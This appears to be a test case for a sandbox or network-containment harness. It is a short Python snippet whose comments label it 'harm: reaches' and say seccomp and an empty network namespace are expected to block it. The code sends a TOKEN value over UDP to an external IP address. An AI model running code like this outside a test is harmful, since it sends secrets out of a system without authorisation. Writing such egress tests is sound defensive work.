# title: sends a datagram with an address in a message
# harm: reaches
# egress: public.example:80
# B: seccomp refuses sockets
# C: an empty network namespace
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendmsg([TOKEN.encode()], [], 0, ('93.184.216.34', 9999)); time.sleep(0.2)
